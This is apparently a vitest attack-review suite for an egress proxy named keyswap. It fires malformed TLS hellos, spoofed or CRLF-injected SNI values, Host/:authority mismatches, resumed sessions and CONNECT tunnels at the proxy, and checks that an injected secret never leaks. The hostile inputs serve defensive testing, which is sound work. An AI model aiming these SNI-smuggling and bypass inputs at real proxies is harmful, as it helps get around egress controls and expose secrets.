import { randomBytes } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { isRoot, makeWorld, type World } from './world.js';

/*
 * Attack review of transparent mode (issue #29): SNI tricks, malformed hellos, Host/:authority mismatch, session
 * resumption, a placeholder in the SNI; and the lock's meaning under the default unmatched_destination_policy.
 */

const UID_A = 62_000 + (process.pid % 500);
const UID_D = UID_A + 1;
const PORT = 14_322;
const TPORT = 14_324;
const PH = 'sk-PLACEHOLDER-ATTACK29-SNI-0123456789abcdef';
const CANARY = `real-secret-sni-${randomBytes(8).toString('hex')}`;

let w: World;
let ks: Awaited<ReturnType<World['startKeyswap']>>;
let script = '';

/** The agent's TLS toolkit: plain Node, no dependencies, run as the locked UID. */
const AGENT_JS = `
const tls = require('node:tls'); const net = require('node:net'); const http2 = require('node:http2'); const crypto = require('node:crypto'); const fs = require('node:fs');
const [mode, arg] = process.argv.slice(2); const o = JSON.parse(arg);
const u16 = (n) => Buffer.from([n >> 8 & 255, n & 255]); const u24 = (n) => Buffer.from([n >> 16 & 255, n >> 8 & 255, n & 255]);
function hello(sni, lie) {
  const exts = [];
  if (sni !== null) { const b = Buffer.from(sni, 'latin1'); const name = Buffer.concat([Buffer.from([0]), u16(lie ? b.length + 50 : b.length), b]); const list = Buffer.concat([u16(name.length), name]); exts.push(Buffer.concat([u16(0), u16(list.length), list])); }
  const e = Buffer.concat(exts);
  const body = Buffer.concat([Buffer.from([3, 3]), crypto.randomBytes(32), Buffer.from([0]), Buffer.from([0, 2, 0xc0, 0x2f]), Buffer.from([1, 0]), u16(e.length), e]);
  const hs = Buffer.concat([Buffer.from([1]), u24(body.length), body]);
  return Buffer.concat([Buffer.from([0x16, 3, 1]), u16(hs.length), hs]);
}
const done = (r) => { process.stdout.write(JSON.stringify(r) + '\\n'); process.exit(0); };
setTimeout(() => done({ result: 'timeout' }), 8000).unref();
if (mode === 'raw') {
  const s = net.connect(443, o.host); let got = Buffer.alloc(0);
  s.on('connect', () => { const h = o.garbage ? Buffer.from(o.garbage, 'latin1') : hello(o.sni, o.lie); if (o.split) { s.write(h.subarray(0, 7)); setTimeout(() => s.write(h.subarray(7)), 100); } else s.write(h); });
  s.on('data', (d) => { got = Buffer.concat([got, d]); }); s.on('error', (e) => done({ result: 'error', code: e.code, got: got.toString('latin1').slice(0, 80) }));
  s.on('close', () => done({ result: 'closed', first: got.length ? got[0] : null, got: got.toString('latin1').slice(0, 80) }));
} else if (mode === 'tls') {
  const opts = { host: o.host, port: 443, ca: fs.readFileSync(o.ca), rejectUnauthorized: false, ALPNProtocols: ['http/1.1'] };
  if (o.servername !== undefined) opts.servername = o.servername;
  if (o.session) opts.session = Buffer.from(o.session, 'base64');
  const s = tls.connect(opts); let got = ''; let session = null;
  s.on('session', (x) => { session = x.toString('base64'); });
  s.on('secureConnect', () => s.write('GET ' + o.path + ' HTTP/1.1\\r\\nHost: ' + o.hostHeader + '\\r\\nAuthorization: Bearer ' + o.ph + '\\r\\nConnection: close\\r\\n\\r\\n'));
  s.on('data', (d) => { got += d.toString('latin1'); });
  s.on('error', (e) => done({ result: 'error', code: e.code || e.message, got: got.slice(0, 200), session, reused: s.isSessionReused && s.isSessionReused() }));
  s.on('close', () => setTimeout(() => done({ result: 'closed', got: got.slice(0, 200), session, reused: s.isSessionReused && s.isSessionReused(), authorized: s.authorized }), 50));
} else if (mode === 'h2') {
  const c = http2.connect('https://' + o.authority, { createConnection: () => tls.connect({ host: o.host, port: 443, servername: o.servername, ca: fs.readFileSync(o.ca), ALPNProtocols: ['h2'] }) });
  c.on('error', (e) => done({ result: 'error', code: e.code || e.message }));
  const r = c.request({ ':path': o.path, ':authority': o.authority, authorization: 'Bearer ' + o.ph });
  r.on('response', (h) => { let b = ''; r.on('data', (d) => { b += d; }); r.on('end', () => done({ result: 'response', status: h[':status'], body: b.slice(0, 200) })); });
  r.on('error', (e) => done({ result: 'error', code: e.code || e.message }));
  r.end();
}
`;

const agent = (uid: number, mode: string, o: object): Record<string, unknown> => {
  const r = w.asUid(uid, ['/usr/bin/node', script, mode, JSON.stringify(o)], 20_000);
  try {
    return JSON.parse(r.out.trim().split('\n').pop() ?? '{}') as Record<string, unknown>;
  } catch {
    return { unparsed: r.out.slice(0, 300) };
  }
};
const lock = (uid: number, cfg: string, extra: readonly string[] = []): void => {
  const r = w.keyswapCli(['egress', 'lock', '--uid', String(uid), ...extra, '--config', cfg]);
  expect(r.status, String(r.stderr)).toBe(0);
};
const unlock = (uid: number): void => { w.keyswapCli(['egress', 'unlock', '--uid', String(uid)]); };
const alive = (): boolean => ks.proc.exitCode === null && ks.proc.signalCode === null;
const goodRequest = (tag: string): Record<string, unknown> =>
  agent(UID_A, 'tls', { host: w.netIp, servername: 'api.example.test', ca: ks.caPem, path: `/v1/${tag}`, hostHeader: 'api.example.test', ph: PH });

beforeAll(async () => {
  if (!isRoot) return;
  w = await makeWorld('sni', 100 + (process.pid % 50));
  script = path.join(w.dir, 'agent.cjs');
  writeFileSync(script, AGENT_JS, { mode: 0o644 });
  ks = await w.startKeyswap('main', `version: 1
listen: 127.0.0.1:${PORT}
state_dir: ${w.dir}/state
audit: { path: ${w.dir}/audit.jsonl }
backend: { type: env, config: { prefix: KEYSWAP_SECRET_ } }
unmatched_destination_policy: deny
transparent: { listen: 127.0.0.1:${TPORT}, uid: ${UID_A} }
upstream:
  extra_ca_file: ${w.dir}/test-ca.pem
  resolve:
    "api.example.test:443": "${w.netIp}:443"
    "elsewhere.example.test:443": "${w.netIp}:443"
secrets:
  TEST_API_KEY:
    placeholder: "${PH}"
    inject: { header: Authorization, format: "Bearer {TEST_API_KEY}" }
    bindings:
      - { host: api.example.test }
`, { KEYSWAP_SECRET_TEST_API_KEY: CANARY });
}, 90_000);

afterAll(async () => {
  if (!isRoot) return;
  await w.teardown();
});

describe.skipIf(!isRoot)('egress attacks: transparent mode', () => {
  it('baseline: a locked --transparent agent gets its secret injected at the bound host', () => {
    lock(UID_A, ks.cfg, ['--transparent']);
    const r = goodRequest('baseline');
    expect(String(r.got)).toContain('200');
    expect(w.upstreamLog().find((x) => x.url === '/v1/baseline')?.authorization).toBe(`Bearer ${CANARY}`);
  });

  it('odd SNIs (IP literal, port, trailing dot, upper case, CRLF, placeholder, 255 chars, localhost, brackets) never crash keyswap nor send the secret elsewhere', () => {
    const names = ['127.0.0.1', w.netIp, 'api.example.test:443', 'api.example.test:8443', 'api.example.test.', 'API.EXAMPLE.TEST', '[::1]', 'localhost',
      'a'.repeat(255), 'api.example.test/x', 'api.example.test\r\nX-Evil: 1', PH, 'api.example.test@elsewhere.example.test', 'elsewhere.example.test#api.example.test',
      '*.example.test', 'xn--api-.example.test', 'api.example.test%00', '\u00e9.example.test', '127.0.0.1:14322', `localhost:${PORT}`];
    const results: Record<string, unknown> = {};
    for (const [i, name] of names.entries()) {
      results[JSON.stringify(name)] = agent(UID_A, 'tls', { host: w.netIp, servername: name, ca: ks.caPem, path: `/v1/odd-${i}`, hostHeader: name.replace(/[\r\n]/g, ''), ph: PH });
      expect(alive(), `after SNI ${JSON.stringify(name)}: ${ks.out()}`).toBe(true);
    }
    console.log(JSON.stringify(results, null, 1));
    // Whatever reached the internet with the secret went to the bound host (the only upstream here), by a name that is the bound host.
    const leaked = w.upstreamLog().filter((x) => x.url.startsWith('/v1/odd-') && x.authorization === `Bearer ${CANARY}`);
    console.log('injected for odd SNIs:', leaked.map((x) => names[Number(x.url.slice(8))]));
    const audit = readFileSync(path.join(w.dir, 'audit.jsonl'), 'utf8');
    expect(audit).not.toContain(PH);
    expect(audit).not.toContain(CANARY);
    expect(ks.out()).not.toContain(CANARY);
    expect(goodRequest('after-odd').got).toContain('200');
  }, 120_000);

  it('malformed hellos (garbage, lying SNI length, >255 SNI, NUL in SNI, split record, no SNI) never crash keyswap', () => {
    const cases: object[] = [
      { garbage: 'GET / HTTP/1.1\r\nHost: api.example.test\r\n\r\n' },
      { garbage: '\x16\x03\x01\xff\xff' + 'A'.repeat(100) },
      { garbage: '\x16\x03\x01\x00\x05\x01\x00\x00\xff\xff' },
      { sni: 'api.example.test', lie: true },
      { sni: 'a'.repeat(300) },
      { sni: 'b'.repeat(4000) },
      { sni: 'api.example.test\x00.evil.test' },
      { sni: 'api.example.test', split: true },
      { sni: '' },
      { sni: null },
    ];
    const results = cases.map((c) => agent(UID_A, 'raw', { host: w.netIp, ...c }));
    console.log(JSON.stringify(results));
    expect(alive(), ks.out()).toBe(true);
    // a refusal must not answer a TLS hello with plaintext HTTP either way; keyswap stays up.
    expect(goodRequest('after-malformed').got).toContain('200');
  }, 120_000);

  it('SNI of the bound host with another Host header or :authority: refused (421), nothing sent', () => {
    const h1 = agent(UID_A, 'tls', { host: w.netIp, servername: 'api.example.test', ca: ks.caPem, path: '/v1/host-mismatch', hostHeader: 'elsewhere.example.test', ph: PH });
    const h2 = agent(UID_A, 'h2', { host: w.netIp, servername: 'api.example.test', ca: ks.caPem, path: '/v1/h2-mismatch', authority: 'elsewhere.example.test', ph: PH });
    console.log(JSON.stringify({ h1, h2 }));
    expect(w.upstreamLog().some((x) => x.url === '/v1/host-mismatch' || x.url === '/v1/h2-mismatch')).toBe(false);
    // An attacker address as the TCP destination with the bound host's SNI: keyswap dials the bound host, not the address.
    const toAttacker = agent(UID_A, 'tls', { host: '203.0.113.9', servername: 'api.example.test', ca: ks.caPem, path: '/v1/attacker-ip', hostHeader: 'api.example.test', ph: PH });
    console.log('attacker ip:', JSON.stringify(toAttacker));
  }, 60_000);

  it('TLS session resumption without an SNI (or with another one) never skips the SNI check', () => {
    const first = goodRequest('resume-1');
    expect(String(first.got)).toContain('200');
    const session = first.session as string | null;
    const noSni = agent(UID_A, 'tls', { host: w.netIp, session, ca: ks.caPem, path: '/v1/resume-nosni', hostHeader: 'api.example.test', ph: PH });
    const other = agent(UID_A, 'tls', { host: w.netIp, servername: 'elsewhere.example.test', session, ca: ks.caPem, path: '/v1/resume-other', hostHeader: 'elsewhere.example.test', ph: PH });
    console.log(JSON.stringify({ hadSession: session !== null, noSni, other }));
    expect(w.upstreamLog().some((x) => x.url === '/v1/resume-nosni' || x.url === '/v1/resume-other')).toBe(false);
  }, 60_000);

  it('a refused SNI is answered in TLS (an alert), not with a plaintext HTTP response written into the handshake', () => {
    const r = agent(UID_A, 'raw', { host: w.netIp, sni: 'elsewhere.example.test' });
    console.log('refused SNI answer:', JSON.stringify(r));
    expect(String(r.got)).not.toMatch(/^HTTP\//);
  }, 30_000);

  it('sanity: keyswap survived', () => {
    expect(alive(), ks.out()).toBe(true);
    unlock(UID_A);
  });
});

describe.skipIf(!isRoot)('egress attacks: the lock under the default unmatched_destination_policy', () => {
  it('a locked UID reaches a local service and the internet on any port through keyswap\'s tunnel (forward_unmodified), though `egress lock` said "only 127.0.0.1:15322"', async () => {
    const fwd = await w.startKeyswap('fwd', `version: 1
listen: 127.0.0.1:15322
state_dir: ${w.dir}/state-fwd
audit: { path: ${w.dir}/audit-fwd.jsonl }
backend: { type: env, config: { prefix: KEYSWAP_SECRET_ } }
upstream:
  extra_ca_file: ${w.dir}/test-ca.pem
  resolve:
    "api.example.test:443": "${w.netIp}:443"
secrets:
  TEST_API_KEY:
    placeholder: "${PH}"
    inject: { header: Authorization, format: "Bearer {TEST_API_KEY}" }
    bindings:
      - { host: api.example.test }
`, { KEYSWAP_SECRET_TEST_API_KEY: CANARY });
    const locked = w.keyswapCli(['egress', 'lock', '--uid', String(UID_D), '--config', fwd.cfg]);
    console.log('lock said:', String(locked.stdout), String(locked.stderr));
    try {
      // Refusing such a lock is the fix: a lock under forward_unmodified would confine nothing.
      expect(locked.status).toBe(2);
      expect(String(locked.stderr)).toContain('unmatched_destination_policy: deny');
      if (locked.status !== 0) return;
      const viaTunnel = (target: string, payload: string): string => {
        const r = w.asUid(UID_D, ['/usr/bin/python3', '-c', `import socket
s = socket.create_connection(("127.0.0.1", 15322), timeout=5)
s.sendall(b"CONNECT ${target} HTTP/1.1\\r\\nHost: ${target}\\r\\n\\r\\n")
head = s.recv(200); print(head.split(b"\\r\\n")[0].decode())
if b" 200" in head.split(b"\\r\\n")[0]:
    s.sendall(b"${payload}"); print(s.recv(10))`]);
        return r.out.trim();
      };
      const local = viaTunnel('127.0.0.1:18080', 'FWD-LOCAL');
      const internet = viaTunnel(`${w.netIp}:8080`, 'FWD-INTERNET');
      console.log({ local, internet });
      const seen = JSON.stringify(w.recorderLog());
      expect(seen).not.toContain('FWD-LOCAL');
      expect(seen).not.toContain('FWD-INTERNET');
    } finally {
      unlock(UID_D);
      fwd.proc.kill('SIGTERM');
    }
  }, 90_000);
});
